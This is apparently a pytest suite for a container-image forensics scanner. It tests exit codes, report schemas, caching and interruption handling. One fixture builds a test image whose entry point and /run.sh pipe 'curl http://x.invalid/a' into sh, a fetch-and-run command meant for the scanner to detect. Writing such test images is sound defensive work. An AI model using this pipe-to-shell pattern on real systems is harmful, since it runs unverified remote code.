"""The command line as other programs see it: processes, streams, exit codes, files."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import jsonschema
import pytest

import forensics
from tests.image_archives import OciBlobs, config_of, digest, docker_save
from tests.layered_images import layer_tar
from tests.report_records import DIGEST

ROOT = Path(forensics.__file__).parents[1]
SCHEMA = json.loads((ROOT / "forensics" / "schema" / "report.schema.json").read_text())
SARIF = json.loads((ROOT / "tests" / "fixtures" / "sarif-schema-2.1.0.json").read_text())
PROGRAM = "import sys; from forensics.cli.main import main; sys.exit(main())"


def command(*arguments: str | Path, **environment: str) -> subprocess.CompletedProcess[bytes]:
    """Run the program as a person would, without a terminal."""
    return subprocess.run(
        [sys.executable, "-c", PROGRAM, *map(str, arguments)],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        env=os.environ | {"PYTHONPATH": str(ROOT)} | environment,
        timeout=60,
    )


def until_it_has_a_worker(running: subprocess.Popen[bytes]) -> None:
    """Wait until the program has begun its work, which it starts a process for."""
    parent = f"\nPPid:\t{running.pid}\n"
    while running.poll() is None:
        for status in Path("/proc").glob("[0-9]*/status"):
            with contextlib.suppress(OSError):  # it ended meanwhile
                if parent in status.read_text("utf-8", "replace"):
                    return
        time.sleep(0.01)


@pytest.fixture(scope="module")
def cache(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """A cache folder of our own, so that no other run is met."""
    before = os.environ.get("XDG_CACHE_HOME")
    os.environ["XDG_CACHE_HOME"] = str(tmp_path_factory.mktemp("cache"))
    yield
    os.environ.pop("XDG_CACHE_HOME") if before is None else os.environ.update(XDG_CACHE_HOME=before)


@pytest.fixture(scope="module")
def image(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two layers; the entry point fetches a program and runs it."""
    layers = [
        layer_tar({"/etc/motd": "good morning\n"}),
        layer_tar({"/run.sh": "#!/bin/sh\ncurl http://x.invalid/a | sh\n"}),
    ]
    config = config_of(layers, config={"Entrypoint": ["sh", "-c", "curl -s http://x.invalid/a | sh"]})
    path = tmp_path_factory.mktemp("image") / "fetching.tar"
    path.write_bytes(docker_save(layers, config=config))
    return path


@pytest.mark.usefixtures("cache")
class TestScan:
    """`forensics scan`."""

    def test_two_runs_are_identical_and_follow_the_schema(self, image: Path) -> None:
        documents = []
        for _ in range(2):
            ran = command("scan", image, "--format", "json", "--quiet")
            assert (ran.returncode, ran.stderr) == (0, b"")
            jsonschema.Draft202012Validator(SCHEMA).validate(json.loads(ran.stdout))
            documents.append(without_times(ran.stdout))
        uncached = command("scan", image, "--format", "json", "--quiet", "--no-cache", "--jobs", "1")
        assert documents[0] == documents[1] == without_times(uncached.stdout)

    def test_the_report_speaks_of_this_image(self, image: Path) -> None:
        document = json.loads(command("scan", image, "--format", "json").stdout)
        assert document["schema"] == "forensics-report/1"
        assert document["image"]["reference"] == str(image)
        assert [layer["verified"] for layer in document["image"]["layers"]] == [True, True]
        assert {"/etc/motd", "/run.sh"} <= {row["path"] for row in document["files"]}
        assert document["coverage"]["issues"] == []

    def test_sarif_follows_the_official_schema(self, image: Path) -> None:
        ran = command("scan", image, "--format", "sarif")
        jsonschema.Draft7Validator(SARIF).validate(json.loads(ran.stdout))

    def test_fail_on_ends_with_1_when_something_is_found(self, image: Path) -> None:
        found = json.loads(command("scan", image, "--format", "json").stdout)["findings"]
        assert any(finding["severity"] in ("high", "critical") for finding in found)
        assert command("scan", image, "--fail-on", "high").returncode == 1
        assert command("scan", image).returncode == 0

    def test_bytes_that_could_not_be_examined_end_with_4(self, tmp_path: Path) -> None:
        whole = layer_tar({"/a": b"a" * 5000})
        cut = whole[:2048]
        path = tmp_path / "cut.tar"
        path.write_bytes(docker_save([cut], config=config_of([cut])))
        ran = command("scan", path, "--format", "json")
        document = json.loads(ran.stdout)
        lost = [issue for issue in document["coverage"]["issues"] if issue["lost_bytes"]]
        assert ran.returncode == 4, document["coverage"]
        assert lost
        assert b"could not be examined" in ran.stderr

    def test_an_interruption_ends_with_130_within_a_second(self, tmp_path: Path) -> None:
        layer = layer_tar({f"/file{n}": os.urandom(2_000_000) for n in range(40)})
        path = tmp_path / "large.tar"
        path.write_bytes(docker_save([layer]))
        # A test run in the background ignores interruptions, and what it starts inherits that.
        heeding = f"import signal; signal.signal(signal.SIGINT, signal.default_int_handler); {PROGRAM}"
        running = subprocess.Popen(
            [sys.executable, "-c", heeding, "scan", str(path), "--no-cache", "--jobs", "1"],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=os.environ | {"PYTHONPATH": str(ROOT)},
        )
        until_it_has_a_worker(running)
        begun = time.monotonic()
        running.send_signal(signal.SIGINT)
        output, errors = running.communicate(timeout=20)
        took = time.monotonic() - begun
        assert (running.returncode, output, errors) == (130, b"", b"interrupted\n")
        assert took < 1

    def test_the_evidence_is_the_same_afterwards(self, image: Path) -> None:
        before = (digest(image.read_bytes()), image.stat().st_mtime_ns)
        command("scan", image)
        command("extract", image, "/", "--to", image.parent / "evidence")
        assert (digest(image.read_bytes()), image.stat().st_mtime_ns) == before


def without_times(content: bytes) -> bytes:
    """A report without what may differ from run to run."""
    lines = content.split(b"\n")
    tool = json.loads(lines[1].removeprefix(b'"tool":').rstrip(b","))
    tool.pop("started")
    return b"\n".join([json.dumps(tool).encode(), *(line for line in lines[2:] if b'"timings":' not in line)])


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"", "empty"),
        (b"text\n", "text"),
        (b"\x1f\x8b\x08\0", "gzip"),
        (b"PK\x03\x04", "zip"),
        (bytes(1024), "tar"),
    ],
)
@pytest.mark.parametrize("verb", ["scan", "layers", "ls"])
def test_what_is_no_image_ends_with_3(tmp_path: Path, content: bytes, name: str, verb: str) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    ran = command(verb, path)
    assert (ran.returncode, ran.stdout) == (3, b""), ran.stderr
    first, second = ran.stderr.decode().splitlines()
    assert first.startswith("error: ")
    assert second.startswith("hint: ")


def test_a_reference_to_nothing_ends_with_3() -> None:
    ran = command("layers", "nowhere/image.tar")
    assert ran.returncode == 3
    assert ran.stderr.startswith(b"error: ")


def test_an_image_not_chosen_ends_with_2_and_the_list(tmp_path: Path) -> None:
    blobs = OciBlobs()
    manifests = [
        blobs.image([layer_tar({"/a": name})], platform={"os": "linux", "architecture": name})
        for name in ("amd64", "arm64")
    ]
    folder = blobs.write(tmp_path / "layout", [blobs.index(manifests)])
    ran = command("layers", folder)
    assert (ran.returncode, ran.stdout) == (2, b"")
    error, *choices, hint = ran.stderr.decode().splitlines()
    assert error.startswith("error: ")
    assert hint.startswith("hint: choose")
    assert [line.split()[0] for line in choices] == ["0", "1"]
    for choice, name in ((["--image", "1"], "arm64"), (["--platform", "linux/amd64"], "amd64")):
        assert command("cat", folder, "/a", *choice).stdout == name.encode()


def test_a_digest_that_is_not_met_shows_in_the_layer_list(tmp_path: Path) -> None:
    layer = layer_tar({"/a": "a"})
    config = json.loads(config_of([layer]))
    config["rootfs"]["diff_ids"] = [DIGEST]
    path = tmp_path / "forged.tar"
    path.write_bytes(docker_save([layer], config=json.dumps(config).encode()))
    ran = command("layers", path, "--json")
    assert ran.returncode == 0
    (row,) = json.loads(ran.stdout)
    assert row["verified"] is False


def test_debugging_adds_the_traceback() -> None:
    assert b"Traceback" not in command("layers", "nowhere.tar").stderr
    assert b"Traceback" in command("layers", "nowhere.tar", FORENSICS_DEBUG="1").stderr


def test_a_closed_reader_is_no_error(image: Path) -> None:
    running = subprocess.Popen(
        [sys.executable, "-c", PROGRAM, "cat", str(image), "/run.sh"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=os.environ | {"PYTHONPATH": str(ROOT)},
    )
    assert running.stdout is not None
    running.stdout.close()
    assert running.stderr is not None
    assert running.stderr.read() == b""
    assert running.wait(20) == 0


def test_version_is_fast() -> None:
    command("version")
    begun = time.monotonic()
    assert command("--help").returncode == 0
    assert time.monotonic() - begun < 1


@pytest.mark.corpus
def test_no_archive_of_the_corpus_gives_a_traceback(corpus: Path) -> None:
    for path in sorted((corpus / "images").glob("*.tar*")):
        ran = command("layers", path)
        assert ran.returncode in (0, 2, 3), path.name
        assert b"internal error" not in ran.stderr, path.name
        assert b"Traceback" not in ran.stderr, path.name
